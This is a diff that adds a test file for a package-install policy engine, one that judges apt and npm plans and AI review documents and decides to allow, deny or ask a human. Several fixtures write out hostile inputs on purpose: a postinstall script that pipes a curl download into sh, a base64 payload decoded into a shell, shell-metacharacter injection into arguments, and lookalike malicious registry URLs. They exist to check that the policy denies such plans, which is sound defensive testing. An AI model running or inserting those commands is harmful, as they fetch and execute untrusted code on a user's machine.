@@ -1,0 +1,942 @@
+import { describe, expect, test } from "bun:test";
+import { type AiReview, type Decision, parseDocument } from "../src/doc.ts";
+import type { OperationPlan } from "../src/doc-plan.ts";
+import { signReview } from "../src/key-review-signature.ts";
+import { decisionOf, evaluate } from "../src/policy.ts";
+import { parsePolicyConfig } from "../src/policy-config.ts";
+import { RULES } from "../src/policy-rules.ts";
+import {
+  command,
+  configured,
+  DEBIAN,
+  entry,
+  install,
+  npm,
+  removal,
+  remove,
+  repair,
+  review,
+  rollback,
+  undoing,
+  update,
+  upgrade,
+  vulnerability,
+  WEAK,
+} from "./policy-plans.ts";
+import { REVIEWER, STRANGER } from "./signing-kit.ts";
+
+const BUILT_IN = "";
+const REVIEWED = `[review]\nrequired = true\npublic_keys = ["${REVIEWER.publicKeyHex}"]`;
+const NPM_ALLOWED = '[npm]\napply = "allow"';
+const NAMED = `[[apt.trusted_origins]]\nuri = "${WEAK.uri}/"\nfingerprint = "${"a".repeat(40)}"`;
+
+function decide(plan: OperationPlan, toml = BUILT_IN, document?: AiReview) {
+  const config = parsePolicyConfig(toml, "test");
+  return evaluate({
+    // A plan that no reader would accept proves nothing about policy.
+    plan: parseDocument("plan", plan),
+    planHash: "0".repeat(64),
+    config,
+    configHash: "1".repeat(64),
+    review: document === undefined ? undefined : { document, hash: "2".repeat(64) },
+  });
+}
+
+interface Case {
+  what: string;
+  plan: OperationPlan;
+  toml?: string;
+  review?: AiReview;
+}
+interface RuleCases {
+  decision: Decision;
+  fires: Case[];
+  not: Case[];
+}
+
+const script = (body: string) => ({
+  scripts: [{ package: "left-pad", name: "postinstall", body }],
+  scripts_detected: true,
+});
+const failed = (outcome: "failed" | "timeout" | "truncated" | "missing", ...argv: string[]) => ({
+  raw_evidence: { commands: [{ ...command(...argv), status: null, outcome }] },
+});
+const from = (...sources: string[]) => ({ transaction: [entry("hello", { sources })] });
+const SECURITY = { ...DEBIAN, id: "http://deb.debian.org/debian-security bookworm-security" };
+const changing = (name: string) => upgrade({ transaction: [entry(name)] });
+
+const two = ([id = ""]: readonly string[]) => {
+  const targets = [id, id.replace("1", "2")];
+  return { target: targets.join(" "), targets };
+};
+const older = entry("a", { action: "downgrade", to_version: "0.9" });
+
+/** For each rule: what fires it, and the nearest thing that does not. */
+const CASES: Readonly<Record<string, RuleCases>> = {
+  "target-invalid": {
+    decision: "deny",
+    fires: [
+      { what: "an operator", plan: install({ target: "jq-", targets: ["jq-"] }) },
+      { what: "a pattern (PEER 8)", plan: install({ target: "nginx-.+", targets: ["nginx-.*"] }) },
+      { what: "an option", plan: install({ target: "--yes", targets: ["--yes"] }) },
+      { what: "an npm name with a semicolon", plan: npm({ target: "a;b", targets: ["a;b"] }) },
+      { what: "target and targets that differ", plan: install({ target: "nginx" }) },
+      { what: "a removal with a version", plan: remove(["hello=1.0"], [removal("hello")]) },
+      { what: "a removal's operator", plan: remove(["hello-"], [removal("hello")]) },
+      { what: "a rollback of a package", plan: { ...rollback([]), target: "hello", targets: ["hello"] } },
+      {
+        what: "a rollback of two executions",
+        plan: { ...rollback([]), ...two(rollback([]).targets) },
+      },
+      { what: "an upgrade of one package", plan: upgrade({ target: "hello", targets: ["hello"] }) },
+      { what: "an update with a target", plan: update({ target: "hello", targets: ["hello"] }) },
+      { what: "a repair with a target", plan: { ...repair([]), target: "hello", targets: ["hello"] } },
+      { what: "an ecosystem without a grammar", plan: { ...npm(), tool: "container" } },
+    ],
+    not: [
+      {
+        what: "name:arch=version (PEER 6)",
+        plan: install({ target: "libc6:i386=2.36-9", targets: ["libc6:i386=2.36-9"] }),
+      },
+      { what: "a removal", plan: remove(["hello", "libc6:i386"], [removal("hello")]) },
+      { what: "a rollback of an execution", plan: rollback([]) },
+      { what: "a scoped npm package", plan: npm({ target: "@a/b@1.0.0", targets: ["@a/b@1.0.0"] }) },
+    ],
+  },
+  "target-denied": {
+    decision: "deny",
+    fires: [
+      {
+        what: "a .deb, the plan's own denial taken out",
+        plan: install({ target: "./x.deb", targets: ["./x.deb"] }),
+      },
+      {
+        what: "a URL, npm",
+        plan: npm({ target: "https://x.example/a.tgz", targets: ["https://x.example/a.tgz"] }),
+      },
+      { what: "a git source, npm", plan: npm({ target: "github:a/b", targets: ["github:a/b"] }) },
+      {
+        what: "a denial that only the plan knows",
+        plan: install({ denied_targets: [{ target: "x", signal: "url-denied" }] }),
+      },
+    ],
+    not: [{ what: "a package", plan: install() }],
+  },
+  "command-metacharacters": {
+    decision: "deny",
+    fires: [";", "|", "&", "$", "`", ">", "(", "*", "'", '"', "\\", "\n", " ", "#", "!", "é"].map((c) => ({
+      what: JSON.stringify(c),
+      plan: upgrade({ command_preview: ["apt-get", `up${c}grade`] }),
+    })),
+    not: [
+      {
+        what: "epoch, tilde and plus in a version",
+        plan: install({ command_preview: ["apt-get", "install", "g++:amd64=4:1.0~rc1+b1"] }),
+      },
+    ],
+  },
+  "metadata-command-failed": {
+    decision: "deny",
+    fires: [
+      { what: "apt-get failed", plan: upgrade(failed("failed", "apt-get", "-s", "upgrade")) },
+      { what: "npm timed out", plan: npm(failed("timeout", "npm", "view", "left-pad", "--json")) },
+      { what: "too much output", plan: upgrade(failed("truncated", "apt-get", "-s", "upgrade")) },
+    ],
+    not: [
+      { what: "gpgv said no to a source", plan: upgrade(failed("failed", "gpgv", "/x/InRelease")) },
+      { what: "sqv said no to a source", plan: upgrade(failed("failed", "sqv", "/x/InRelease.gpg")) },
+      { what: "the tool is missing", plan: npm(failed("missing", "npm", "view", "left-pad", "--json")) },
+    ],
+  },
+  "metadata-not-understood": {
+    decision: "deny",
+    fires: [{ what: "npm answered nonsense", plan: npm({ metadata_available: false }) }],
+    not: [
+      {
+        what: "npm is missing",
+        plan: npm({ metadata_available: false, ...failed("missing", "npm", "view", "left-pad", "--json") }),
+      },
+      {
+        what: "nothing was asked about a denied target",
+        plan: npm({ metadata_available: false, target: "github:a/b", targets: ["github:a/b"] }),
+      },
+    ],
+  },
+  "apt-essential-removal": {
+    decision: "deny",
+    fires: [
+      {
+        what: "built-in",
+        plan: install({ transaction: [entry("a"), removal("bash", { essential: true })] }),
+      },
+      {
+        what: "removals allowed",
+        plan: install({ transaction: [entry("a"), removal("bash", { essential: true })] }),
+        toml: "[apt]\nallow_removals = true",
+      },
+    ],
+    not: [
+      {
+        what: "an essential package upgraded",
+        plan: upgrade({ transaction: [entry("bash", { essential: true })] }),
+      },
+      { what: "another package removed", plan: install({ transaction: [removal("hello")] }) },
+    ],
+  },
+  "apt-removal": {
+    decision: "deny",
+    fires: [
+      { what: "a conflict removes something", plan: install({ transaction: [entry("a"), removal("b")] }) },
+      { what: "an install that names it", plan: install({ transaction: [removal("hello")] }) },
+      {
+        what: "what depends on a target goes along",
+        plan: remove(["hello"], [removal("hello"), removal("app")]),
+      },
+      {
+        what: "only exact_targets and the command name it",
+        plan: {
+          ...remove(["hello"], [removal("hello"), removal("app")]),
+          exact_targets: ["hello", "app"],
+          command_preview: ["apt-get", "remove", "-y", "hello", "app"],
+        },
+      },
+      { what: "a target of another architecture", plan: remove(["hello:i386"], [removal("hello")]) },
+      {
+        what: "a target without an architecture is not a foreign one",
+        plan: remove(["hello"], [removal("hello", { architecture: "i386" })]),
+      },
+      { what: "a target that takes it for a pattern", plan: remove(["hell."], [removal("hello")]) },
+      {
+        what: "evidence of an inverse, outside of a rollback",
+        plan: { ...remove([], [removal("b")]), ...undoing("b:amd64-") },
+      },
+      {
+        what: "the same in an install",
+        plan: install({ transaction: [removal("b")], ...undoing("b:amd64-") }),
+      },
+      { what: "a rollback that has no record of it", plan: rollback([removal("b")], "a:amd64-") },
+      {
+        what: "a record that nothing verified",
+        plan: {
+          ...rollback([removal("b")]),
+          provenance_evidence: undoing("b:amd64-").provenance_evidence.map((p) => ({
+            ...p,
+            verified: false,
+          })),
+        },
+      },
+      {
+        what: "a record of another kind",
+        plan: {
+          ...rollback([removal("b")]),
+          provenance_evidence: undoing("b:amd64-").provenance_evidence.map((p) => ({
+            ...p,
+            kind: "apt-chain",
+          })),
+        },
+      },
+      { what: "a record of another architecture", plan: rollback([removal("b")], "b:i386-") },
+      { what: "a record of a version, not of a removal", plan: rollback([removal("b")], "b:amd64=1.0-1") },
+      {
+        what: "a rollback of something that is no execution",
+        plan: { ...rollback([removal("b")], "b:amd64-"), target: "b", targets: ["b"] },
+      },
+    ],
+    not: [
+      { what: "no removal", plan: install() },
+      { what: "apt remove of it", plan: remove(["hello"], [removal("hello")]) },
+      {
+        what: "with its architecture",
+        plan: remove(["hello:amd64"], [removal("hello", { architecture: "all" })]),
+      },
+      { what: "a foreign one", plan: remove(["hello:i386"], [removal("hello", { architecture: "i386" })]) },
+      { what: "a rollback that has a record of it", plan: rollback([removal("b")], "b:amd64-") },
+    ],
+  },
+  "apt-downgrade": {
+    decision: "deny",
+    fires: [
+      { what: "a downgrade (PEER 5)", plan: install({ transaction: [entry("a", { action: "downgrade" })] }) },
+      {
+        what: "one that an install names",
+        plan: { ...install({ transaction: [older] }), exact_targets: ["a=0.9"] },
+      },
+      { what: "a rollback that has no record of it", plan: rollback([older]) },
+      { what: "a rollback to another version than recorded", plan: rollback([older], "a:amd64=0.8") },
+      {
+        what: "a record, but no rollback",
+        plan: install({ transaction: [older], ...undoing("a:amd64=0.9") }),
+      },
+      { what: "a removal that downgrades another", plan: remove(["a"], [older]) },
+    ],
+    not: [
+      { what: "an upgrade", plan: upgrade() },
+      { what: "a rollback to what the record says", plan: rollback([older], "a:amd64=0.9") },
+    ],
+  },
+  "apt-configure-elsewhere": {
+    decision: "deny",
+    fires: [
+      {
+        what: "an install that only configures, and so has no hash",
+        plan: install({ transaction: [configured] }),
+      },
+      { what: "a removal that configures", plan: remove(["hello"], [configured]) },
+      { what: "a repair that installs", plan: repair([entry("hello", { action: "install" })]) },
+      { what: "a repair that removes", plan: repair([configured, removal("b")]) },
+    ],
+    not: [
+      { what: "a repair that configures", plan: repair([configured]) },
+      { what: "an install", plan: install() },
+    ],
+  },
+  "apt-source-conflict": {
+    decision: "deny",
+    fires: [
+      {
+        what: "one version, two hashes",
+        plan: upgrade({
+          provenance_evidence: [
+            { kind: "apt-source-conflict", subject: "hello=1.0-2", verified: false, key: null, detail: "" },
+          ],
+        }),
+      },
+    ],
+    not: [
+      {
+        what: "other evidence",
+        plan: upgrade({
+          provenance_evidence: [
+            { kind: "apt-release-chain", subject: "hello=1.0-2", verified: true, key: null, detail: "" },
+          ],
+        }),
+      },
+    ],
+  },
+  "apt-repository-untrusted": {
+    decision: "deny",
+    fires: [
+      { what: "a weak source", plan: upgrade({ ...from(WEAK.id), repository_evidence: [DEBIAN, WEAK] }) },
+      {
+        what: "an old version of a weak source, to undo an execution",
+        plan: {
+          ...rollback([{ ...older, sources: [WEAK.id] }], "a:amd64=0.9"),
+          repository_evidence: [DEBIAN, WEAK],
+        },
+      },
+      {
+        what: "one that calls itself Debian and trusted",
+        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, trust: "untrusted" }] }),
+      },
+      { what: "a package without a source", plan: upgrade(from()) },
+      { what: "a source the plan has no evidence of", plan: upgrade(from("http://nowhere.example x")) },
+      {
+        what: "pinned, but the signature is not verified",
+        plan: upgrade({
+          ...from(DEBIAN.id),
+          repository_evidence: [{ ...DEBIAN, signature_verified: false }],
+        }),
+      },
+      { what: "trusted=yes", plan: upgrade({ repository_evidence: [{ ...DEBIAN, trusted_option: true }] }) },
+      {
+        what: "allow-insecure=yes",
+        plan: upgrade({ repository_evidence: [{ ...DEBIAN, allow_insecure: true }] }),
+      },
+      {
+        what: "the same source twice, once weak",
+        plan: upgrade({ repository_evidence: [DEBIAN, { ...DEBIAN, trust: "weak" }] }),
+      },
+      {
+        what: "also from a weak source, whatever bytes it says to have",
+        plan: upgrade({ ...from(WEAK.id, DEBIAN.id), repository_evidence: [DEBIAN, WEAK] }),
+      },
+      {
+        what: "also from a source of which there is no evidence",
+        plan: upgrade(from(DEBIAN.id, "http://x y")),
+      },
+      { what: "from no source at all", plan: upgrade(from()) },
+      {
+        what: "a second source and no hash to tell them apart",
+        plan: upgrade({
+          transaction: [entry("hello", { sha256: null, sources: [DEBIAN.id, WEAK.id] })],
+          repository_evidence: [DEBIAN, WEAK],
+        }),
+      },
+      {
+        what: "named, but signed by another key",
+        plan: upgrade({
+          ...from(WEAK.id),
+          repository_evidence: [{ ...WEAK, key_fingerprints: ["B".repeat(40)] }],
+        }),
+        toml: NAMED,
+      },
+      {
+        what: "the named key at another URI",
+        plan: upgrade({
+          ...from(WEAK.id),
+          repository_evidence: [{ ...WEAK, uri: "https://evil.example/debian" }],
+        }),
+        toml: NAMED,
+      },
+      {
+        what: "named, but not verified",
+        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, signature_verified: false }] }),
+        toml: NAMED,
+      },
+    ],
+    not: [
+      { what: "the distribution", plan: upgrade() },
+      {
+        what: "a pinned third party",
+        plan: upgrade({ ...from(WEAK.id), repository_evidence: [{ ...WEAK, trust: "pinned" }] }),
+      },
+      {
+        what: "named by URI and key",
+        plan: upgrade({ ...from(WEAK.id), repository_evidence: [WEAK] }),
+        toml: NAMED,
+      },
+      {
+        what: "a weak source that nothing comes from",
+        plan: upgrade({ repository_evidence: [DEBIAN, WEAK] }),
+      },
+      {
+        what: "main and security, both the distribution's",
+        plan: upgrade({
+          ...from(DEBIAN.id, SECURITY.id),
+          repository_evidence: [DEBIAN, SECURITY],
+        }),
+      },
+      {
+        what: "the distribution and a mirror of it that the policy names",
+        plan: upgrade({ ...from(WEAK.id, DEBIAN.id), repository_evidence: [DEBIAN, WEAK] }),
+        toml: NAMED,
+      },
+      { what: "a removal", plan: install({ transaction: [removal("hello")] }) },
+      { what: "npm", plan: npm() },
+    ],
+  },
+  "apt-hash-unknown": {
+    decision: "deny",
+    fires: [{ what: "no SHA-256", plan: upgrade({ transaction: [entry("hello", { sha256: null })] }) }],
+    not: [
+      { what: "a removal has none", plan: install({ transaction: [removal("hello")] }) },
+      { what: "what is unpacked already", plan: repair([configured]) },
+    ],
+  },
+  "vulnerability-denied": {
+    decision: "deny",
+    fires: [
+      { what: "critical", plan: upgrade({ vulnerability_evidence: [vulnerability()] }) },
+      {
+        what: "critical in what would be installed, declared old",
+        plan: upgrade({ vulnerability_evidence: [vulnerability({ applies_to: "old" })] }),
+      },
+      {
+        what: "high where the policy says high",
+        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }),
+        toml: '[vulnerability]\ndeny = "high"',
+      },
+    ],
+    not: [
+      { what: "high", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }) },
+      {
+        what: "fixed by this very version",
+        plan: upgrade({ vulnerability_evidence: [vulnerability({ fixed_version: "1.0-2" })] }),
+      },
+      {
+        what: "critical in the old version",
+        plan: upgrade({ vulnerability_evidence: [vulnerability({ applies_to: "old", version: "1.0-1" })] }),
+      },
+      { what: "no data", plan: upgrade() },
+    ],
+  },
+  "script-downloads-and-runs": {
+    decision: "deny",
+    fires: [{ what: "curl | sh", plan: npm(script("curl https://x.example/i.sh | sh")) }],
+    not: [
+      { what: "a build", plan: npm(script("node-gyp rebuild")) },
+      {
+        what: "curl and bash among upgraded packages (PEER 1)",
+        plan: upgrade({
+          transaction: [entry("curl"), entry("bash")],
+          raw_evidence: {
+            commands: [{ ...command("apt-get", "-s", "upgrade"), stdout: "Inst curl | bash\nInst bash" }],
+          },
+        }),
+      },
+    ],
+  },
+  "script-obfuscated": {
+    decision: "deny",
+    fires: [{ what: "base64 piped into a shell", plan: npm(script("echo aGk= | base64 -d | sh")) }],
+    not: [
+      { what: "a plain script", plan: npm(script("node build.js")) },
+      {
+        what: "a base64 checksum in npm's output (PEER 2)",
+        plan: npm({
+          raw_evidence: {
+            commands: [
+              {
+                ...command("npm", "view", "lodash", "--json"),
+                stdout: `"integrity":"sha512-${"v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg".repeat(3)}=="`,
+              },
+            ],
+          },
+        }),
+      },
+    ],
+  },
+  "artifact-mutable": {
+    decision: "deny",
+    fires: [
+      {
+        what: "a tag, whatever the plan says",
+        plan: npm({ target: "left-pad@latest", targets: ["left-pad@latest"] }),
+      },
+      {
+        what: "no version",
+        plan: npm({ target: "left-pad", targets: ["left-pad"], mutable_reference: true }),
+      },
+      { what: "a target that was not resolved", plan: npm({ exact_targets: [] }) },
+    ],
+    not: [
+      { what: "an exact version", plan: npm() },
+      { what: "apt", plan: install() },
+    ],
+  },
+  "artifact-unverified": {
+    decision: "deny",
+    fires: [
+      { what: "no evidence", plan: npm({ provenance_evidence: [] }) },
+      {
+        what: "nothing verified",
+        plan: npm({ provenance_evidence: npm().provenance_evidence.map((p) => ({ ...p, verified: false })) }),
+      },
+      {
+        what: "evidence of another package",
+        plan: npm({
+          provenance_evidence: npm().provenance_evidence.map((p) => ({ ...p, subject: "x@1.0.0" })),
+        }),
+      },
+    ],
+    not: [{ what: "a verified signature", plan: npm() }],
+  },
+  "artifact-registry": {
+    decision: "deny",
+    fires: [
+      { what: "another registry", plan: npm({ source_registry: "https://npm.example/" }) },
+      {
+        what: "two registries",
+        plan: npm({ source_registry: "https://npm.example/ https://registry.npmjs.org/" }),
+      },
+      { what: "none named", plan: npm({ source_registry: null }) },
+      {
+        what: "the artifact is elsewhere",
+        plan: npm({ transaction: npm().transaction.map((e) => ({ ...e, origin: "cdn.example" })) }),
+      },
+      {
+        what: "one that only looks like it",
+        plan: npm({ source_registry: "https://registry.npmjs.org.evil.example/" }),
+      },
+    ],
+    not: [
+      { what: "the public one", plan: npm() },
+      {
+        what: "a company's, named",
+        plan: npm({ source_registry: "https://npm.example:8443/x/" }),
+        toml: '[npm]\nallowed_registries = ["npm.example:8443", "registry.npmjs.org"]',
+      },
+    ],
+  },
+  "artifact-too-new": {
+    decision: "deny",
+    fires: [
+      {
+        what: "a day short",
+        plan: npm({ published_at: "2025-12-27T03:04:05Z" }),
+        toml: "[npm]\nminimum_age_days = 7",
+      },
+      { what: "unknown", plan: npm({ published_at: null }), toml: "[npm]\nminimum_age_days = 7" },
+    ],
+    not: [
+      {
+        what: "old enough to the second",
+        plan: npm({ published_at: "2025-12-26T03:04:05Z" }),
+        toml: "[npm]\nminimum_age_days = 7",
+      },
+      { what: "no minimum", plan: npm({ published_at: null }) },
+    ],
+  },
+  "artifact-provenance": {
+    decision: "deny",
+    fires: [{ what: "no attestation", plan: npm(), toml: "[npm]\nrequire_provenance = true" }],
+    not: [
+      { what: "not required", plan: npm() },
+      {
+        what: "a verified one",
+        plan: npm({
+          provenance_evidence: [
+            { kind: "npm-attestation", subject: "left-pad@1.3.0", verified: true, key: null, detail: "" },
+          ],
+        }),
+        toml: "[npm]\nrequire_provenance = true",
+      },
+    ],
+  },
+  "kernel-change": {
+    decision: "require_human",
+    fires: [
+      { what: "a kernel", plan: changing("linux-image-9.9.9-aegis") },
+      { what: "with :arch", plan: changing("linux-image-amd64:amd64") },
+      {
+        what: "removed",
+        plan: install({ transaction: [removal("linux-image-6.1.0-1-amd64")] }),
+        toml: "[apt]\nallow_removals = true",
+      },
+    ],
+    not: [{ what: "its headers for user space", plan: changing("linux-libc-dev") }],
+  },
+  "bootloader-change": {
+    decision: "require_human",
+    fires: [{ what: "grub", plan: changing("grub-pc") }],
+    not: [{ what: "grubby", plan: changing("grubby") }],
+  },
+  "security-sensitive": {
+    decision: "require_human",
+    fires: [
+      { what: "sudo", plan: changing("sudo") },
+      { what: "libssl3:i386", plan: changing("libssl3:i386") },
+      { what: "named by the policy", plan: changing("hello"), toml: '[apt]\nsensitive_packages = ["hel*"]' },
+    ],
+    not: [{ what: "sudoku", plan: changing("sudoku") }],
+  },
+  "apt-upgrade-installs": {
+    decision: "require_human",
+    fires: [
+      {
+        what: "a new package",
+        plan: upgrade({
+          transaction: [entry("hello"), entry("new", { action: "install", from_version: null })],
+        }),
+      },
+    ],
+    not: [
+      { what: "upgrades only (PEER 4)", plan: upgrade() },
+      { what: "an install", plan: install() },
+    ],
+  },
+  "apt-held-change": {
+    decision: "require_human",
+    fires: [
+      { what: "a held package", plan: install({ packages_held_back: ["hello"] }) },
+      {
+        what: "a foreign one",
+        plan: install({
+          transaction: [entry("hello", { architecture: "i386" })],
+          packages_held_back: ["hello:i386"],
+        }),
+      },
+    ],
+    not: [
+      { what: "one kept back and left alone", plan: upgrade({ packages_held_back: ["other"] }) },
+      {
+        what: "the host's own kept back, a foreign one changed",
+        plan: install({
+          transaction: [entry("hello", { architecture: "i386" })],
+          packages_held_back: ["hello"],
+        }),
+      },
+      { what: "kept back in another architecture", plan: upgrade({ packages_held_back: ["hello:i386"] }) },
+    ],
+  },
+  "apt-update-unauthenticated": {
+    decision: "require_human",
+    fires: [
+      { what: "trusted=yes", plan: update({ repository_evidence: [{ ...WEAK, trusted_option: true }] }) },
+      { what: "allow-insecure", plan: update({ repository_evidence: [{ ...WEAK, allow_insecure: true }] }) },
+    ],
+    not: [
+      {
+        what: "nothing downloaded yet",
+        plan: update({ repository_evidence: [{ ...DEBIAN, signature_verified: false, trust: "untrusted" }] }),
+      },
+    ],
+  },
+  "lifecycle-scripts": {
+    decision: "require_human",
+    fires: [
+      { what: "a script", plan: npm(script("node build.js")), toml: NPM_ALLOWED },
+      {
+        what: "a script whose flag was taken out",
+        plan: npm({ ...script("node x.js"), scripts_detected: false }),
+        toml: NPM_ALLOWED,
+      },
+      { what: "a flag whose script was taken out", plan: npm({ scripts_detected: true }), toml: NPM_ALLOWED },
+    ],
+    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
+  },
+  "build-hooks": {
+    decision: "require_human",
+    fires: [{ what: "a build hook", plan: npm({ build_hooks_detected: true }), toml: NPM_ALLOWED }],
+    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
+  },
+  "native-code": {
+    decision: "require_human",
+    fires: [{ what: "native code", plan: npm({ native_code_risk: true }), toml: NPM_ALLOWED }],
+    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
+  },
+  "bundled-binaries": {
+    decision: "require_human",
+    fires: [{ what: "a binary", plan: npm({ binary_artifact_risk: true }), toml: NPM_ALLOWED }],
+    not: [{ what: "none", plan: npm(), toml: NPM_ALLOWED }],
+  },
+  "metadata-missing": {
+    decision: "require_human",
+    fires: [
+      { what: "apt-get is missing", plan: upgrade(failed("missing", "apt-get", "-s", "upgrade")) },
+      { what: "all evidence taken out", plan: upgrade({ raw_evidence: { commands: [] } }) },
+    ],
+    not: [
+      { what: "evidence is there", plan: upgrade() },
+      { what: "apt update asks nobody", plan: update() },
+    ],
+  },
+  "vulnerability-grave": {
+    decision: "require_human",
+    fires: [
+      { what: "high", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "high" })] }) },
+      {
+        what: "unknown severity",
+        plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "unknown" })] }),
+      },
+    ],
+    not: [
+      { what: "medium", plan: upgrade({ vulnerability_evidence: [vulnerability({ severity: "medium" })] }) },
+      {
+        what: "unknown in the old version",
+        plan: upgrade({
+          vulnerability_evidence: [
+            vulnerability({ severity: "unknown", applies_to: "old", version: "1.0-1" }),
+          ],
+        }),
+      },
+    ],
+  },
+  "nothing-to-do": {
+    decision: "allow",
+    fires: [{ what: "already installed", plan: install({ nothing_to_do: true, transaction: [] }) }],
+    not: [
+      { what: "only the plan says so", plan: install({ nothing_to_do: true }) },
+      { what: "update", plan: update({ nothing_to_do: true }) },
+    ],
+  },
+  "apt-install": {
+    decision: "require_human",
+    fires: [
+      { what: "install", plan: install() },
+      { what: "said to be nothing, with a transaction", plan: install({ nothing_to_do: true }) },
+    ],
+    not: [
+      { what: "upgrade", plan: upgrade() },
+      { what: "npm install", plan: npm() },
+    ],
+  },
+  "apt-upgrade": {
+    decision: "allow_with_snapshot",
+    fires: [{ what: "upgrade", plan: upgrade() }],
+    not: [{ what: "install", plan: install() }],
+  },
+  "apt-remove": {
+    decision: "require_human",
+    fires: [
+      { what: "remove", plan: remove(["hello"], [removal("hello")]) },
+      {
+        what: "whatever the policy allows",
+        plan: remove(["hello"], [removal("hello")]),
+        toml: '[apt]\nallow_removals = true\ninstall = "allow"\nupgrade = "allow"',
+      },
+    ],
+    not: [
+      { what: "nothing to remove", plan: { ...remove(["hello"], []), nothing_to_do: true } },
+      { what: "install", plan: install() },
+    ],
+  },
+  "apt-rollback": {
+    decision: "require_human",
+    fires: [{ what: "a rollback", plan: rollback([older], "a:amd64=0.9") }],
+    not: [{ what: "undone already", plan: { ...rollback([]), nothing_to_do: true } }],
+  },
+  "apt-repair": {
+    decision: "require_human",
+    fires: [
+      { what: "a repair", plan: repair([configured]) },
+      { what: "of dpkg's journal alone", plan: repair([]) },
+    ],
+    not: [{ what: "nothing half-done", plan: { ...repair([]), nothing_to_do: true } }],
+  },
+  "apt-update": {
+    decision: "allow",
+    fires: [{ what: "update", plan: update() }],
+    not: [{ what: "upgrade", plan: upgrade() }],
+  },
+  "apt-update-changes": {
+    decision: "deny",
+    fires: [{ what: "an update that changes a package", plan: update({ transaction: [entry("hello")] }) }],
+    not: [{ what: "an update", plan: update() }],
+  },
+  "npm-apply": {
+    decision: "deny",
+    fires: [{ what: "npm", plan: npm() }],
+    not: [{ what: "apt", plan: install() }],
+  },
+  ...Object.fromEntries(
+    (["pip", "container", "nuget", "vscode", "go", "cargo"] as const).map((tool) => [
+      `${tool}-apply`,
+      {
+        decision: tool === "container" || tool === "go" ? "allow" : "deny",
+        fires: [{ what: tool, plan: { ...npm(), tool } }],
+        not: [{ what: "npm", plan: npm() }],
+      } satisfies RuleCases,
+    ]),
+  ),
+  undecided: {
+    decision: "require_human",
+    fires: [
+      {
+        what: "an unknown operation",
+        plan: upgrade({ operation: "dist-upgrade" }),
+        toml: '[apt]\nupgrade = "allow"',
+      },
+    ],
+    not: [
+      { what: "update", plan: update() },
+      { what: "nothing to do", plan: install({ nothing_to_do: true, transaction: [] }) },
+    ],
+  },
+  "review-missing": {
+    decision: "require_human",
+    fires: [
+      { what: "none", plan: update(), toml: "[review]\nrequired = true" },
+      { what: "none, and a reviewer is named", plan: update(), toml: REVIEWED },
+      { what: "one that nobody signed", plan: update(), toml: REVIEWED, review: review() },
+      {
+        what: "one by a stranger",
+        plan: update(),
+        toml: REVIEWED,
+        review: signReview(review(), STRANGER),
+      },
+      {
+        what: "one that was changed after it was signed",
+        plan: update(),
+        toml: REVIEWED,
+        review: { ...signReview(review(), REVIEWER), summary: "better" },
+      },
+      {
+        what: "one by a reviewer, where no reviewer is named",
+        plan: update(),
+        toml: "[review]\nrequired = true",
+        review: signReview(review(), REVIEWER),
+      },
+    ],
+    not: [
+      { what: "not required", plan: update() },
+      {
+        what: "signed by the reviewer",
+        plan: update(),
+        toml: REVIEWED,
+        review: signReview(review(), REVIEWER),
+      },
+    ],
+  },
+  "review-denies": {
+    decision: "deny",
+    fires: [
+      { what: "risk deny", plan: update(), review: review({ risk: "deny" }) },
+      { what: "recommendation deny", plan: update(), review: review({ recommendation: "deny" }) },
+    ],
+    not: [{ what: "risk high", plan: update(), review: review({ risk: "high" }) }],
+  },
+  "review-wants-human": {
+    decision: "require_human",
+    fires: [
+      { what: "recommendation", plan: update(), review: review({ recommendation: "require_human" }) },
+      { what: "risk", plan: update(), review: review({ risk: "high" }) },
+      { what: "supply chain", plan: update(), review: review({ supply_chain_risk: "high" }) },
+      { what: "privilege", plan: update(), review: review({ privilege_risk: "high" }) },
+      { what: "persistence", plan: update(), review: review({ persistence_risk: "high" }) },
+      { what: "availability", plan: update(), review: review({ availability_risk: "high" }) },
+      { what: "a red flag", plan: update(), review: review({ red_flags: ["x"] }) },
+      { what: "a control", plan: update(), review: review({ required_controls: ["human approval"] }) },
+    ],
+    not: [
+      {
+        what: "medium everywhere",
+        plan: update(),
+        review: review({ risk: "medium", privilege_risk: "medium" }),
+      },
+    ],
+  },
+  "review-wants-snapshot": {
+    decision: "allow_with_snapshot",
+    fires: [
+      { what: "recommendation", plan: update(), review: review({ recommendation: "approve_with_snapshot" }) },
+      { what: "a control", plan: update(), review: review({ required_controls: ["system snapshot"] }) },
+    ],
+    not: [{ what: "nothing against it", plan: update(), review: review() }],
+  },
+};
+
+test("every rule has cases", () => {
+  expect(Object.keys(CASES).sort()).toEqual(RULES.map((rule) => rule.id).sort());
+});
+
+const DECISIONS_IN_ORDER: readonly Decision[] = ["allow", "allow_with_snapshot", "require_human", "deny"];
+for (const [id, { decision, fires, not }] of Object.entries(CASES)) {
+  describe(id, () => {
+    test(`decides ${decision}`, () => {
+      const rule = RULES.find((one) => one.id === id);
+      expect(rule && decisionOf(rule, parsePolicyConfig(BUILT_IN, "test"))).toBe(decision);
+    });
+    for (const { what, plan, toml, review: document } of fires) {
+      test(`fires: ${what}`, () => {
+        const result = decide(plan, toml, document);
+        expect(result.rules).toContain(id);
+        expect(DECISIONS_IN_ORDER.indexOf(result.decision)).toBeGreaterThanOrEqual(
+          DECISIONS_IN_ORDER.indexOf(decision),
+        );
+      });
+    }
+    for (const { what, plan, toml, review: document } of not) {
+      test(`not: ${what}`, () => expect(decide(plan, toml, document).rules).not.toContain(id));
+    }
+  });
+}
+
+describe("what the configuration turns", () => {
+  const cases: readonly [toml: string, plan: OperationPlan, decision: Decision][] = [
+    ['[apt]\ninstall = "deny"', install(), "deny"],
+    ['[apt]\nupgrade = "deny"', upgrade(), "deny"],
+    ['[apt]\nupdate = "require_human"', update(), "require_human"],
+    ['[apt]\ninstall = "allow_with_snapshot"', install(), "allow_with_snapshot"],
